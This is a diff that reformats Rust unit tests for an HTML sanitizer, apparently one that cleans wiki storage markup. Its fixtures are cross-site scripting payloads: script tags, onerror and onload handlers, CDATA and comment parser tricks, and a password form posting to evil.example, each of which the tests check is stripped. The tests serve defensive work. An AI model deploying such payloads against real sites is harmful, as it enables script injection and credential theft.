@@ -4,14 +4,8 @@ const REL: &str = "rel=\"noopener noreferrer nofollow\"";
 
 #[test]
 fn scripts_and_styles_disappear_with_their_content() {
-    assert_eq!(
-        sanitize_storage("<p>a</p><script>alert(1)</script><p>b</p>"),
-        "<p>a</p><p>b</p>"
-    );
-    assert_eq!(
-        sanitize_storage("<style>body { display: none }</style><p>b</p>"),
-        "<p>b</p>"
-    );
+    assert_eq!(sanitize_storage("<p>a</p><script>alert(1)</script><p>b</p>"), "<p>a</p><p>b</p>");
+    assert_eq!(sanitize_storage("<style>body { display: none }</style><p>b</p>"), "<p>b</p>");
     assert_eq!(sanitize_storage("<SCRIPT SRC=//evil.example/x.js></SCRIPT>ok"), "ok");
 }
 
@@ -46,11 +40,7 @@ fn links_keep_only_web_and_mail_urls() {
         "//evil.example/",
         "ftp://example.com/",
     ] {
-        assert_eq!(
-            sanitize_storage(&format!("<a href=\"{href}\">x</a>")),
-            format!("<a {REL}>x</a>"),
-            "{href}"
-        );
+        assert_eq!(sanitize_storage(&format!("<a href=\"{href}\">x</a>")), format!("<a {REL}>x</a>"), "{href}");
     }
     assert_eq!(
         sanitize_storage("<a href=\"mailto:support@cloud.example\">mail</a>"),
@@ -61,10 +51,7 @@ fn links_keep_only_web_and_mail_urls() {
 #[test]
 fn images_keep_only_a_web_src_and_alt() {
     assert_eq!(sanitize_storage("<img src=\"x\" onerror=\"alert(1)\" />"), "<img>");
-    assert_eq!(
-        sanitize_storage("<img src=\"data:image/svg+xml,&lt;svg onload=alert(1)&gt;\">"),
-        "<img>"
-    );
+    assert_eq!(sanitize_storage("<img src=\"data:image/svg+xml,&lt;svg onload=alert(1)&gt;\">"), "<img>");
     assert_eq!(
         sanitize_storage("<img src=\"https://i.example/a.png\" alt=\"A\" width=\"3\" style=\"x\">"),
         "<img src=\"https://i.example/a.png\" alt=\"A\">"
@@ -73,22 +60,10 @@ fn images_keep_only_a_web_src_and_alt() {
 
 #[test]
 fn embedded_documents_forms_and_svg_are_removed() {
-    assert_eq!(
-        sanitize_storage("<iframe src=\"https://evil.example/\">fallback</iframe>ok"),
-        "ok"
-    );
-    assert_eq!(
-        sanitize_storage("<svg><script>alert('svg')</script><a href=\"x\">l</a></svg>ok"),
-        "ok"
-    );
-    assert_eq!(
-        sanitize_storage("<math><mi><script>alert(1)</script></mi></math>ok"),
-        "ok"
-    );
-    assert_eq!(
-        sanitize_storage("<object data=\"x.swf\"></object><embed src=\"x.swf\">ok"),
-        "ok"
-    );
+    assert_eq!(sanitize_storage("<iframe src=\"https://evil.example/\">fallback</iframe>ok"), "ok");
+    assert_eq!(sanitize_storage("<svg><script>alert('svg')</script><a href=\"x\">l</a></svg>ok"), "ok");
+    assert_eq!(sanitize_storage("<math><mi><script>alert(1)</script></mi></math>ok"), "ok");
+    assert_eq!(sanitize_storage("<object data=\"x.swf\"></object><embed src=\"x.swf\">ok"), "ok");
     assert_eq!(
         sanitize_storage(
             "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\" />\
@@ -96,10 +71,7 @@ fn embedded_documents_forms_and_svg_are_removed() {
         ),
         "Sign in again"
     );
-    assert_eq!(
-        sanitize_storage("<textarea>t</textarea><select><option>o</option></select>ok"),
-        "ok"
-    );
+    assert_eq!(sanitize_storage("<textarea>t</textarea><select><option>o</option></select>ok"), "ok");
 }
 
 #[test]
@@ -111,10 +83,7 @@ fn parser_confusion_tricks_come_out_inert() {
         "<img>\"&gt;"
     );
     assert_eq!(sanitize_storage("<!-- <img src=x onerror=alert(1)> -->ok"), "ok");
-    assert_eq!(
-        sanitize_storage("<svg><![CDATA[<script>alert(1)</script>]]></svg>ok"),
-        "ok"
-    );
+    assert_eq!(sanitize_storage("<svg><![CDATA[<script>alert(1)</script>]]></svg>ok"), "ok");
     assert_eq!(sanitize_storage("<scr<![CDATA[]]>ipt>alert(1)</script>ok"), "ok");
 }
 
@@ -161,38 +130,20 @@ fn code_macro_bodies_become_escaped_preformatted_text() {
     let code = "<ac:structured-macro ac:name=\"code\"><ac:parameter ac:name=\"language\">html</ac:parameter>\
                 <ac:plain-text-body><![CDATA[if a < b && c:\n  <script>alert(1)</script>]]></ac:plain-text-body>\
                 </ac:structured-macro>";
-    assert_eq!(
-        sanitize_storage(code),
-        "<pre>if a &lt; b &amp;&amp; c:\n  &lt;script&gt;alert(1)&lt;/script&gt;</pre>"
-    );
+    assert_eq!(sanitize_storage(code), "<pre>if a &lt; b &amp;&amp; c:\n  &lt;script&gt;alert(1)&lt;/script&gt;</pre>");
     // Unterminated: the rest is text, as an XML parser would have it.
-    assert_eq!(
-        sanitize_storage("<p>x<![CDATA[<b>y</b>"),
-        "<p>x&lt;b&gt;y&lt;/b&gt;</p>"
-    );
+    assert_eq!(sanitize_storage("<p>x<![CDATA[<b>y</b>"), "<p>x&lt;b&gt;y&lt;/b&gt;</p>");
 }
 
 #[test]
 fn markup_nested_deeper_than_any_page_is_shown_as_text() {
-    let nested = |depth: usize| {
-        format!(
-            "{}<b>deep</b> &amp; <i>x</i>{}",
-            "<div>".repeat(depth),
-            "</div>".repeat(depth)
-        )
-    };
+    let nested =
+        |depth: usize| format!("{}<b>deep</b> &amp; <i>x</i>{}", "<div>".repeat(depth), "</div>".repeat(depth));
     assert_eq!(
         sanitize_storage(&nested(MAX_NESTING - 1)),
-        format!(
-            "{}<b>deep</b> &amp; <i>x</i>{}",
-            "<div>".repeat(MAX_NESTING - 1),
-            "</div>".repeat(MAX_NESTING - 1)
-        )
+        format!("{}<b>deep</b> &amp; <i>x</i>{}", "<div>".repeat(MAX_NESTING - 1), "</div>".repeat(MAX_NESTING - 1))
     );
-    assert_eq!(
-        sanitize_storage(&nested(MAX_NESTING)),
-        "<p>deep&#32;&amp;amp;&#32;x</p>"
-    );
+    assert_eq!(sanitize_storage(&nested(MAX_NESTING)), "<p>deep&#32;&amp;amp;&#32;x</p>");
     assert_eq!(sanitize_storage(&nested(100_000)), "<p>deep&#32;&amp;amp;&#32;x</p>");
 }
 
@@ -209,12 +160,6 @@ fn depth_estimate_sees_through_ignored_end_tags_and_reopened_formatting() {
     let flat = "<p>a<br/><img src=\"x\"/></p><ul><li>b</li></ul>".repeat(10_000);
     assert!(!nesting_exceeds(&flat, MAX_NESTING));
     // Code bodies are text by the time depth is measured.
-    let code = format!(
-        "<ac:plain-text-body><![CDATA[{}]]></ac:plain-text-body>",
-        "<div>".repeat(1_000)
-    );
-    assert_eq!(
-        sanitize_storage(&code),
-        format!("<pre>{}</pre>", "&lt;div&gt;".repeat(1_000))
-    );
+    let code = format!("<ac:plain-text-body><![CDATA[{}]]></ac:plain-text-body>", "<div>".repeat(1_000));
+    assert_eq!(sanitize_storage(&code), format!("<pre>{}</pre>", "&lt;div&gt;".repeat(1_000)));
 }
